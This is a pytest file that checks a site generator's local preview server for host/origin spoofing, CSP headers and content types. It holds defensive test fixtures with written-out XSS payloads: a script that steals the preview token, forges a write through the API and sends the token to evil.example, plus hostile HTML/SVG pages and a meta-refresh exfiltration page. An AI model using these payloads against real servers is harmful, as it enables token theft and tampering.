"""The preview answers its own pages only, and runs nothing that is not its own."""

import asyncio
import contextlib
import http.client
import json
import re
import socket
import threading
from collections.abc import Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from html import escape
from pathlib import Path
from typing import Any, cast
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Error, Page, Route
from tornado import web
from tornado.routing import RuleRouter

from randnotiz import site
from randnotiz.preview import Preview
from randnotiz.preview.server import HOST, TOKEN, Application, kind_of, with_client
from randnotiz.site import building
from randnotiz.site.output import read_manifest
from tests.places import folders_in

SETTINGS = """\
title: Stadtblatt
url: https://stadtblatt.example/
lang: de
publisher: {name: Stadtblatt, url: "https://stadtblatt.example/"}
"""
ARTICLE = """\
---
title: Steigen die Mieten?
authors: [Redaktion]
published: 2026-11-23
summary: Was die Zahlen des Amtes hergeben.
---
Die Mieten stiegen.
"""
PATIENCE = 60.0  # seconds, after which something never comes

# An address for each pattern of the routes; a route that is added wants one too.
EXAMPLES = {
    "/livereload$": "/livereload",
    "/_preview/behind/([a-z0-9-]+)$": "/_preview/behind/mieten",
    "/_preview/token$": "/_preview/token",
    "/_preview/([a-z.]+)$": "/_preview/client.js",
    "/(.*)$": "/mieten/",
    "/later$": "/later",
}
HANDSHAKE = {
    "Upgrade": "websocket",
    "Connection": "Upgrade",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
}
# PORT stands for the preview's.
WRONG_HOSTS = """
evil.example  evil.example:PORT  127.0.0.1.nip.io:PORT  localhost.evil.example:PORT  localhost.:PORT  127.0.0.1.:PORT
127.0.0.1  127.0.0.1:1  127.0.0.1:PORT0  0.0.0.0:PORT  [::1]:PORT  127.1:PORT  2130706433:PORT  evil@127.0.0.1:PORT
127.0.0.1:PORT,evil.example  evil.example,127.0.0.1:PORT  127.0.0.1:PORT/  http://127.0.0.1:PORT
"""
WRONG_ORIGINS = """
http://evil.example  http://evil.example:PORT  null  https://127.0.0.1:PORT  ws://127.0.0.1:PORT  127.0.0.1:PORT
file://
http://127.0.0.1  http://127.0.0.1:1  http://127.0.0.1:PORT0  http://127.0.0.1:PORT/  http://127.0.0.1:PORT.evil.example
http://evil.example@127.0.0.1:PORT  http://[::1]:PORT  http://127.0.0.1:PORT,http://127.0.0.1:PORT  *
"""
CHANGING = ("POST", "PUT", "OPTIONS")


class Later(web.RequestHandler):
    """A handler of somebody who never heard of the guard."""

    def get(self) -> None:
        """An answer to anybody."""
        self.finish("served")

    post = get


@dataclass(frozen=True)
class Serving:
    """The preview's application with a route that was added later, as it serves in a thread of this process."""

    folders: site.SitePaths
    preview: Preview
    application: Application

    @property
    def port(self) -> str:
        (port,) = {host.rpartition(":")[2] for host in self.application.names}
        return port

    def own(self, name: str = HOST) -> dict[str, str]:
        """The headers of a request from a page of the preview."""
        return {"Host": f"{name}:{self.port}", "Origin": f"http://{name}:{self.port}"}

    def ask(self, path: str, method: str, headers: Mapping[str, str]) -> http.client.HTTPResponse:
        """The answer to a request of just these headers; PORT in them is the preview's."""
        with contextlib.closing(http.client.HTTPConnection(HOST, int(self.port), timeout=PATIENCE)) as connection:
            connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
            for name, value in headers.items():
                connection.putheader(name, value.replace("PORT", self.port))
            connection.endheaders()
            answer = connection.getresponse()
            answer.read()
            return answer

    def routes(self) -> Iterator[str]:
        """The patterns of all routes of the application."""
        waiting = [*self.application.default_router.rules]
        for rule in waiting:
            if isinstance(rule.target, RuleRouter):
                waiting += rule.target.rules
            else:
                yield cast("Any", rule.matcher).regex.pattern


@contextlib.contextmanager
def served(root: Path) -> Iterator[Serving]:
    """A site of one article, as the preview serves it."""
    folders = folders_in(root)
    (folders.content / "mieten").mkdir(parents=True)
    (folders.content / "site.yaml").write_text(SETTINGS, encoding="utf-8")
    (folders.content / "mieten/article.md").write_text(ARTICLE, encoding="utf-8")
    with socket.create_server((HOST, 0)) as free:
        port = int(free.getsockname()[1])
    serving: list[tuple[Serving, asyncio.AbstractEventLoop, asyncio.Event]] = []
    ready = threading.Event()

    async def serve() -> None:
        preview = Preview(folders, site.BuildOptions(), lambda _: None, lambda _: None)
        outcome = building.build(folders, site.BuildOptions())
        preview.desk.look_around()
        preview.desk.settled(outcome, dict(preview.desk.fresh))
        application = Application(preview, port)
        application.add_handlers(".*", [("/later", Later)])
        server = application.listen(port, HOST)
        ended = asyncio.Event()
        serving.append((Serving(folders, preview, application), asyncio.get_running_loop(), ended))
        ready.set()
        await ended.wait()
        server.stop()
        await server.close_all_connections()

    thread = threading.Thread(target=lambda: asyncio.run(serve()))
    thread.start()
    assert ready.wait(PATIENCE)
    (found, loop, ended) = serving[0]
    try:
        yield found
    finally:
        loop.call_soon_threadsafe(ended.set)
        thread.join(PATIENCE)


@pytest.fixture(scope="module")
def serving(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Serving]:
    """One that no test changes."""
    with served(tmp_path_factory.mktemp("guard")) as found:
        yield found


def test_every_route_refuses_whoever_does_not_come_from_its_own_pages(serving: Serving) -> None:
    """Host and Origin may also be wrong and the same, as they are when somebody lets a name of theirs point here."""
    ours = serving.own()
    wrong_hosts = [
        *({**ours, "Host": host} for host in WRONG_HOSTS.split()),
        *({"Host": host} for host in WRONG_HOSTS.split()),
        *({"Host": host, "Origin": f"http://{host}"} for host in WRONG_HOSTS.split()),
    ]
    wrong_origins = [{**ours, "Origin": origin} for origin in WRONG_ORIGINS.split()]
    no_origin = [{"Host": ours["Host"]}]
    let_in = []
    for pattern in serving.routes():
        for method, strangers, more in (
            ("GET", wrong_origins, {}),
            ("GET", [*wrong_origins, *no_origin], HANDSHAKE),
            *((method, [*wrong_origins, *no_origin], {}) for method in CHANGING),
        ):
            for headers in (*wrong_hosts, *strangers):
                sent = {**headers, **more}
                refused = (403,) if headers["Host"] == ours["Host"] else (400, 403)  # 400: no host at all
                if serving.ask(EXAMPLES[pattern], method, sent).status not in refused:
                    let_in.append((method, EXAMPLES[pattern], sent))
    assert let_in == []


def test_the_table_of_examples_has_the_routes_that_there_are(serving: Serving) -> None:
    assert set(serving.routes()) == EXAMPLES.keys()


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "LOCALHOST"])
def test_its_own_pages_are_answered(serving: Serving, name: str) -> None:
    ours = serving.own(name)
    for method in ("GET", "POST"):
        assert serving.ask("/later", method, ours).status == 200
    assert serving.ask("/later", "GET", {"Host": ours["Host"]}).status == 200
    assert serving.ask("/_preview/client.js", "GET", ours).status == 200
    assert serving.ask("/livereload", "GET", {**ours, **HANDSHAKE}).status == 101


def test_no_secret_is_sent_over_a_socket(tmp_path: Path) -> None:
    """A page learns from it whether it belongs to this run, by a name that opens nothing."""

    async def news() -> tuple[Preview, str]:
        preview = Preview(folders_in(tmp_path), site.BuildOptions(), lambda _: None, lambda _: None)
        return preview, json.dumps(preview.news("mieten/", ""), default=bytes.decode)

    with ThreadPoolExecutor(1) as elsewhere:  # a browser's loop may run in this thread
        preview, sent = elsewhere.submit(asyncio.run, news()).result()
    assert preview.token not in sent
    assert preview.run in sent
    assert preview.run not in preview.token
    assert f'data-run="{preview.run}"'.encode() in with_client(b"<title>Mieten</title>", preview.run)


# ----------------------------------------------------------------------------------------------------
# What runs, and what may be read
# ----------------------------------------------------------------------------------------------------

UNKNOWN = (
    "/mieten/nichts",
    "http://evil.example/mieten/",
    "*",
    "/_preview/nichts.js",
    "/_preview/behind/nichts",
    "/%00",
    "/mieten",
    "/.written",
)


def test_every_answer_has_a_policy_and_is_what_it_says_it_is(serving: Serving) -> None:
    """Of every route, also where it refuses, does not know a method, or has nothing; but for a connection's."""
    shown = {**serving.own(), TOKEN: serving.preview.token}
    paths = [*(EXAMPLES[pattern] for pattern in serving.routes() if pattern != "/later$"), *UNKNOWN]
    paths += [f"/{path}" for path in serving.preview.desk.paths]
    for path in paths:
        for method in ("GET", "HEAD", *CHANGING):
            for headers in (shown, serving.own(), {"Host": "evil.example"}):
                answer = serving.ask(path, method, headers)
                policy = answer.headers["Content-Security-Policy"]
                told = (method, path, answer.status, policy)
                assert policy.startswith("default-src 'none'; "), told
                assert "frame-ancestors 'none'" in policy, told
                assert not re.search(r"'self'|unsafe|\*", (re.findall("script-src ([^;]*)", policy) or [""])[0]), told
                assert answer.headers["X-Content-Type-Options"] == "nosniff", told


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("mieten/index.html", "text/html"),
        ("mieten/claims/neu/index.html", "text/html"),
        ("404.html", "text/html"),
        ("assets/reading.0a1b2c.js", "javascript"),
        ("search/words-1.js", "javascript"),
        ("assets/style.0a1b2c.css", "text/css"),
        ("mieten/bild.svg", "image/svg+xml"),
        ("mieten/plan.pdf", "application/pdf"),
        ("mieten/bild.html", "application/octet-stream"),
        ("mieten/neu/index.html", "application/octet-stream"),
        ("mieten/bild.xhtml", "application/octet-stream"),
        ("mieten/index.js", "application/octet-stream"),
        ("mieten/searches/0.js", "application/octet-stream"),
        ("index.mjs", "application/octet-stream"),
        ("mieten/style.css", "application/octet-stream"),
        ("assets/bild.html", "application/octet-stream"),
        ("mieten/bild", "application/octet-stream"),
    ],
)
def test_pages_and_scripts_are_sent_as_such_only_where_the_build_writes_them(path: str, kind: str) -> None:
    assert kind_of(path).endswith(kind)


# Run by a page of the preview's origin, it writes into the article's notes.
ATTACK = """
(async () => {
  console.log('hostile');
  const here = location.origin;
  const token = await (await fetch(here + '/_preview/token')).text();
  const headers = {'X-Preview-Token': token, 'Content-Type': 'application/json'};
  const behind = await (await fetch(here + '/_preview/behind/mieten', {headers})).json();
  await fetch(here + '/_preview/behind/mieten', {method: 'POST', headers, body: JSON.stringify({
    do: 'add', kind: 'note', before: '', words: 'DieMietenstiegen.', after: '', at: 0, digests: behind.digests,
    id: 'hostile', values: {kind: 'context', note: 'Geschrieben von einem Bild.'}})});
  fetch('https://evil.example/' + token, {mode: 'no-cors'});
})();
"""
QUOTED = escape(ATTACK)
HOSTILE_PAGE = f"""<!DOCTYPE html><html lang="de" id="argued"><head>
<script src="angriff.js"></script><script src="/mieten/angriff.js"></script><script src="bild.gif"></script>
<script src="/mieten/bild.txt"></script><script src="data:text/javascript,{quote(ATTACK)}"></script>
<script type="module">import "/mieten/angriff.js";</script><script>{ATTACK}</script>
<title>Ein Bild</title>
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
<link rel="preload" as="image" href="https://evil.example/b.png"><link rel="prefetch" href="https://evil.example/c">
</head><body onload="{QUOTED}"><main class="annotated"><article id="text"><p>Die Mieten stiegen.</p></article></main>
<img src="x" onerror="{QUOTED}"><img src="https://evil.example/d.png"><svg onload="{QUOTED}"></svg>
<iframe srcdoc="<script>{QUOTED}</script>"></iframe><iframe src="javascript:{QUOTED}"></iframe>
<iframe src="/mieten/bild.html"></iframe><object data="/mieten/bild.html"></object><embed src="/mieten/bild.svg">
<a id="link" href="javascript:{QUOTED}">Weiter</a><details open ontoggle="{QUOTED}"><summary>Mehr</summary></details>
<form action="/_preview/behind/mieten" method="post" enctype="text/plain">
<input name='{{"do": "delete", "x": "' value='"}}'><button id="send">Senden</button></form></body></html>"""
HOSTILE_DRAWING = f"""<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="{QUOTED}">
<script>{escape(ATTACK)}</script><script href="/mieten/angriff.js"/>
<a id="link" href="javascript:{QUOTED}"><rect width="90" height="90"/></a></svg>"""
XHTML = HOSTILE_DRAWING.replace("<svg", '<html xmlns="http://www.w3.org/1999/xhtml"><svg') + "</html>"

# Without any script, it sends itself to another host, with whatever stands before its second quotation mark.
ESCAPE = "mieten/claims/flucht/index.html"
ESCAPING_PAGE = """<!DOCTYPE html><meta http-equiv="refresh" content='0; url=https://evil.example/?
<title>Ein Bild</title>'>"""

# What lies in the output, however it came there: where pages are, where none is, and under what other endings.
DROPPED: Mapping[str, str] = {
    **dict.fromkeys(("mieten/index.html", "index.html", "404.html", "mieten/single.html"), HOSTILE_PAGE),
    **dict.fromkeys(("mieten/claims/neu/index.html", "sources/neu/index.html"), HOSTILE_PAGE),
    **dict.fromkeys(
        ("mieten/bild.html", "mieten/bild.htm", "mieten/neu/index.html", "assets/bild.html"), HOSTILE_PAGE
    ),
    **dict.fromkeys(("mieten/bild", "mieten/bild.png", "mieten/bild.txt", "mieten/bild.gif"), f"//{HOSTILE_PAGE}"),
    **dict.fromkeys(("mieten/bild.svg", "assets/bild.svg"), HOSTILE_DRAWING),
    **dict.fromkeys(("mieten/bild.xhtml", "mieten/bild.xml", "feed.xml"), XHTML),
    **dict.fromkeys(("mieten/angriff.js", "mieten/bild.css"), ATTACK),
}


def drop(serving: Serving, files: Mapping[str, str]) -> None:
    """Files that somebody has put into the output, and into the list of those that a build wrote."""
    output = serving.folders.output
    for path, text in files.items():
        (output / path).parent.mkdir(parents=True, exist_ok=True)
        (output / path).write_text(text, encoding="utf-8")
    listed = {*(output / ".written").read_text(encoding="utf-8").splitlines(), *files}
    (output / ".written").write_text("".join(f"{path}\n" for path in sorted(listed)), encoding="utf-8")
    serving.preview.desk.paths = read_manifest(output)


class Visit:
    """A tab, what was said in it, and whom it asked elsewhere; nobody is really asked."""

    def __init__(self, page: Page) -> None:
        self.page, self.said, self.asked = page, list[str](), list[str]()
        page.set_default_timeout(PATIENCE * 1000)
        page.on("console", lambda message: self.said.append(message.text))
        page.on("dialog", lambda dialog: dialog.dismiss())
        page.route(re.compile(r"^https?://evil\."), self._refuse)

    def _refuse(self, route: Route) -> None:
        self.asked.append(route.request.url)
        route.abort()


@pytest.mark.slow
@pytest.mark.browser
def test_without_the_policy_a_page_in_the_output_would_write(browser: Browser, tmp_path: Path) -> None:
    """So that the test after this one is one of the policy, and not of an attack that never works.

    Several attack at once, and one of them writes first: whoever sends the token away comes after that.
    """
    with served(tmp_path) as serving, contextlib.closing(browser.new_context(bypass_csp=True)) as context:
        drop(serving, DROPPED)
        visit = Visit(context.new_page())
        with visit.page.expect_request(lambda request: serving.preview.token in request.url):
            visit.page.goto(f"http://{serving.own()['Host']}/mieten/")
        assert "hostile" in (serving.folders.content / "mieten/notes.yaml").read_text(encoding="utf-8")


@pytest.mark.slow
@pytest.mark.browser
def test_nothing_that_lies_in_the_output_runs_reads_the_token_or_writes(browser: Browser, tmp_path: Path) -> None:
    with served(tmp_path) as serving, contextlib.closing(browser.new_context()) as context:
        drop(serving, DROPPED)
        before = {path: path.read_bytes() for path in serving.folders.content.rglob("*") if path.is_file()}
        for path in DROPPED:
            visit = Visit(context.new_page())
            page = visit.page
            with contextlib.suppress(Error):  # what is sent as data is not shown but saved
                page.goto(f"http://{serving.own()['Host']}/{path}")
            for selector in ("#link", "#send"):
                if page.locator(selector).count():
                    page.locator(selector).dispatch_event("click")
            page.wait_for_load_state("networkidle")
            assert "hostile" not in visit.said, path
            assert bool(visit.asked) == (path == ESCAPE), (path, visit.asked)
            assert serving.preview.token not in "".join((page.content(), *visit.asked)), path
            page.close()
        after = {path: path.read_bytes() for path in serving.folders.content.rglob("*") if path.is_file()}
        assert after == before


@pytest.mark.slow
@pytest.mark.browser
def test_a_page_for_elsewhere_runs_its_own_script_and_nothing_of_the_previews(
    browser: Browser, serving: Serving
) -> None:
    with contextlib.closing(browser.new_context()) as context:
        visit = Visit(context.new_page())
        visit.page.goto(f"http://{serving.own()['Host']}/mieten/single.html", wait_until="networkidle")
        assert visit.said == []
        assert visit.page.locator(".preview").count() == 0
        assert visit.page.locator("script[src]").count() == 0
